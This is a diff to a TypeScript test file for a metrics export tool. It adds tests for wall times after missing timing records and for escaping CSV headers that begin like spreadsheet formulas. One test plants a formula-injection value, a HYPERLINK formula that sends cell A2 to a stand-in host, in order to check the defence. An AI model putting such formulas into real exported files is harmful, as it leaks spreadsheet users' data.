@@ -1,5 +1,5 @@
 // What `export` writes, read back by readers of our own from the rules of both formats.
-import { appendFileSync, cpSync, readFileSync } from "node:fs";
+import { appendFileSync, cpSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
@@ -225,6 +225,45 @@ describe("export", () => {
     expect(events).toEqual(names.map((name) => join(out, name, "events.out.tfevents.0.sgmrl")));
     for (const file of events) expect(readEvents(readFileSync(file)).length).toBeGreaterThan(1);
   }, 60_000);
+
+  it("gives iterations after lost times their own, not those of others", async () => {
+    const run = await trained("run", "--iterations", "6", "--evaluate-every", "3");
+    const kept = [0, 1, 4, 5].map((iteration) => JSON.stringify({ iteration, wall: 10 }));
+    writeFileSync(join(run, "timings.jsonl"), `${kept.join("\n")}\n`);
+    const { files } = exportRuns([run], "tensorboard", emptyFolder());
+    const [, ...events] = readEvents(readFileSync(files[0]!));
+    const times = (prefix: string) =>
+      events
+        .filter(({ values }) => Object.keys(values).some((name) => name.startsWith(prefix)))
+        .map(({ step, wallTime }) => [step, wallTime]);
+    expect(times("train/")).toEqual([
+      [0, 10],
+      [1, 20],
+      [2, 20],
+      [3, 20],
+      [4, 30],
+      [5, 40],
+    ]);
+    expect(times("evaluation/")).toEqual([
+      [0, 0],
+      [3, 20],
+      [6, 40],
+    ]);
+  });
+
+  it("writes no column head that is a formula", async () => {
+    const run = await trained("run", "--iterations", "1");
+    const line = JSON.parse(readFileSync(join(run, "metrics.jsonl"), "utf8"));
+    const names = ['=HYPERLINK("http://x/"&A2)', "+a", "-a", "@a"];
+    writeFileSync(
+      join(run, "metrics.jsonl"),
+      `${JSON.stringify({ ...line, ...Object.fromEntries(names.map((name) => [name, 1])) })}\n`,
+    );
+    const { files } = exportRuns([run], "csv", emptyFolder());
+    const [head] = readCsv(readFileSync(files[0]!, "utf8"));
+    for (const name of names) expect(head).toContain(`'${name}`);
+    for (const cell of head!) expect(cell).not.toMatch(/^[=+\-@]/);
+  });
 
   it("writes events of training and evaluation, in order, with the time that training took", async () => {
     const run = await trained("run", "--iterations", "3", "--evaluate-every", "2");
